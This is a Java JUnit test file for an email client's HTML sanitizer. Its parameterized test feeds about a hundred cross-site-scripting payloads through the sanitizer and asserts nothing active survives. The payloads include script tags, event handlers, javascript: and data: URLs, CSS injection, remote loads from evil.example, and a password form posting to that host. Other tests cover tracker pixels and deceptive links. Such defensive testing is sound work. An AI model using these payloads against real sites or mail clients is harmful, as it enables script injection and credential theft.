package io.correo.mailbox.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class SafeHtmlTest {
  private static final SafeHtml.Images BLOCKED = images(null);
  private static final Set<String> ATTRIBUTES =
      Set.of(
          "href",
          "src",
          "style",
          "class",
          "title",
          "alt",
          "width",
          "height",
          "align",
          "dir",
          "target",
          "rel",
          "data-correo-src",
          "lang",
          "border",
          "color",
          "size",
          "face",
          "colspan",
          "type",
          "bgcolor",
          "start",
          "valign",
          "cellpadding",
          "cellspacing");
  private static final Pattern HANDLER = Pattern.compile("on[a-z]+");

  private final SafeHtml safeHtml = new SafeHtml();

  static Stream<String> attacks() {
    return Stream.of(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/xss src=//evil.example>",
        "<<script>alert(1);//<</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<img src='x' onerror\n=\nalert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=javascript:alert(1)>",
        "<img src=\"jav\tascript:alert(1)\">",
        "<img src=\"jav&#x0A;ascript:alert(1)\">",
        "<img src=`javascript:alert(1)`>",
        "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
        "<img src=\" &#14; javascript:alert(1)\">",
        "<img srcset=\"http://evil.example/1.png 1x\" src=cid:x>",
        "<img lowsrc=\"javascript:alert(1)\">",
        "<img dynsrc=\"javascript:alert(1)\">",
        "<img src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"blob:http://x/1\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<a href=\"/admin/delete\">x</a>",
        "<a href=\"#\" onclick=\"alert(1)\">x</a>",
        "<a href=https://x.example target=_self rel=opener>x</a>",
        "<body onload=alert(1)>",
        "<body background=\"javascript:alert(1)\">",
        "<div onmouseover=alert(1)>x</div>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"background-image:url(https://evil.example/t.gif)\">x</div>",
        "<div style=\"background:\\75rl(https://evil.example)\">x</div>",
        "<div style=\"background:u/**/rl(https://evil.example)\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"width:exp/*x*/ression(alert(1))\">x</div>",
        "<div style=\"background:image-set('https://evil.example/x' 1x)\">x</div>",
        "<div style=\"color:var(--x)\">x</div>",
        "<div style=\"behavior:url(x.htc)\">x</div>",
        "<div style=\"-moz-binding:url(x)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</div>",
        "<div style=\"margin-top:-500px\">cover</div>",
        "<div style='content:\"x\";filter:alpha(1)'>x</div>",
        "<div style=\"font-family:'x';@import 'https://evil.example'\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(https://evil.example)}</style>",
        "<STYLE>li{list-style-image:url('javascript:alert(1)')}</STYLE><ul><li>x</ul>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=https://evil.example/x.swf>",
        "<applet code=x></applet>",
        "<form action=https://evil.example><input name=password><button>Go</button></form>",
        "<input type=image src=https://evil.example/x>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<video src=x onerror=alert(1)></video>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=https://evil.example/x autoplay>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex action=javascript:alert(1) type=image>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
        "<td background=https://evil.example/t.gif>x</td>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<p id=x name=y>x</p><a name=location>y</a>",
        "<xss style=\"xss:expression(alert(1))\">x</xss>",
        "<title><img src=x onerror=alert(1)></title>",
        "<plaintext><script>alert(1)</script>",
        "<listing><img src=x onerror=alert(1)></listing>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<p title='\"><script>alert(1)</script>'>x</p>",
        "<p title=\"`onmouseover=alert(1)\">x</p>",
        "<a href='https://x.example/\" onmouseover=\"alert(1)'>x</a>",
        "<font color=\"red;background:url(x)\">x</font>",
        "<img src=https://u:p@evil.example/x width=1 height=1>",
        "<dialog open>x</dialog><slot onslotchange=alert(1)></slot>",
        "<keygen autofocus onfocus=alert(1)>",
        "<div contenteditable onbeforeinput=alert(1)>x</div>",
        "<p>\u2028<script>alert(1)</script>\u2029</p>");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void leavesNothingActive(String attack) {
    var safe = safeHtml.clean(attack, BLOCKED).html();

    var document = Jsoup.parseBodyFragment(safe);
    for (var element : document.body().getAllElements()) {
      assertThat(element.normalName())
          .isNotIn(
              "script",
              "style",
              "link",
              "meta",
              "base",
              "iframe",
              "frame",
              "object",
              "embed",
              "form",
              "input",
              "button",
              "textarea",
              "select",
              "svg",
              "math",
              "template",
              "video",
              "audio",
              "noscript");
      for (var attribute : element.attributes()) {
        var name = attribute.getKey().toLowerCase(Locale.ROOT);
        if (element == document.body()) continue;
        assertThat(name).isIn(ATTRIBUTES).doesNotMatch(HANDLER);
        var value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("[\\s\\p{Cntrl}]", "");
        if (name.equals("href")) assertThat(value).matches("(https?://|mailto:|tel:).*");
        if (name.equals("src")) assertThat(value).matches("data:image/(png|gif|jpeg|webp);.*");
        if (name.equals("style")) {
          assertThat(value)
              .doesNotContain(
                  "url(", "image-set(", "var(", "expression(", "\\", "/*", "@", "position", "-500");
        }
      }
    }
  }

  @Test
  void keepsWhatMailIsMadeOf() {
    var html =
        "<table width=\"600\" bgcolor=\"#ffffff\"><tr><td style=\"padding:10px;color:rgb(1,2,3)\""
            + " align=\"center\"><b>Offer</b><br>1 &lt; 2</td></tr></table>"
            + "<div class=\"gmail_quote unknown\">old</div><blockquote type=\"cite\">q</blockquote>";

    var safe = safeHtml.clean(html, BLOCKED).html();

    assertThat(safe)
        .contains("<table width=\"600\" bgcolor=\"#ffffff\">")
        .contains("padding:10px;color:rgb(1,2,3)")
        .contains("<b>Offer</b><br")
        .contains("1 &lt; 2")
        .contains("class=\"gmail_quote\"")
        .contains("<blockquote type=\"cite\">");
  }

  @Test
  void blocksRemoteImagesAndCountsTrackers() {
    var html =
        "<img src=\"https://shop.example/logo.png\" width=\"200\">"
            + "<img src=\"https://track.example/open?id=1\" width=\"1\" height=\"1\">"
            + "<img src=\"https://track.example/2\" style=\"width:1px;height:1px\">"
            + "<img src=\"https://track.example/3\" style=\"display:none\">"
            + "<img src=\"cid:logo@x\">";

    var safe = safeHtml.clean(html, BLOCKED);

    assertThat(safe.remoteImages()).isEqualTo(1);
    assertThat(safe.trackers()).isEqualTo(3);
    assertThat(safe.html())
        .contains("data-correo-src=\"https://shop.example/logo.png\"")
        .doesNotContain(" src=\"https", "track.example")
        .doesNotContain("cid:");
  }

  @Test
  void showsImagesThroughOurOwnLinks() {
    var html = "<img src=\"https://shop.example/a.png?x=1&amp;y=2\"><img src=\"CID:logo@x\">";

    var safe = safeHtml.clean(html, images("https://correo.example/api/v1/")).html();

    assertThat(safe)
        .contains("src=\"https://correo.example/api/v1/images\"")
        .contains("src=\"https://correo.example/api/v1/part/logo&#64;x\"")
        .doesNotContain("shop.example");
  }

  @Test
  void makesLinksHarmlessAndSeesThoseThatLie() {
    var html =
        "<a href=\"https://evil.example/login\">www.bank.example</a>"
            + "<a href=\"https://www.bank.example/x\">bank.example</a>"
            + "<a href=\"https://login.bank.example/x\">https://bank.example/x</a>"
            + "<a href=\"https://evil.example\">Click here</a>";

    var safe = safeHtml.clean(html, BLOCKED);

    assertThat(safe.mismatched()).containsExactly("bank.example");
    assertThat(safe.html()).contains("target=\"_blank\"", "rel=\"noopener noreferrer\"");
  }

  @Test
  @org.junit.jupiter.api.Timeout(60)
  void boundsSizeAndDepth() {
    var deep = "<div>".repeat(200_000) + "x";
    var wide = "<p>word</p>".repeat(300_000);
    var quotes = "<blockquote>".repeat(20_000) + "<title>".repeat(1000) + "x";

    for (var html : List.of(deep, wide, quotes)) {
      var safe = safeHtml.clean(html, BLOCKED);
      assertThat(safe.html().length()).isLessThan(5_000_000);
    }
    assertThat(safeHtml.clean(wide, BLOCKED).truncated()).isTrue();
  }

  private static SafeHtml.Images images(String base) {
    return new SafeHtml.Images() {
      @Override
      public String inline(String contentId) {
        return base == null ? null : base + "part/" + contentId;
      }

      @Override
      public String remote(String url) {
        return base == null ? null : base + "images";
      }
    };
  }
}
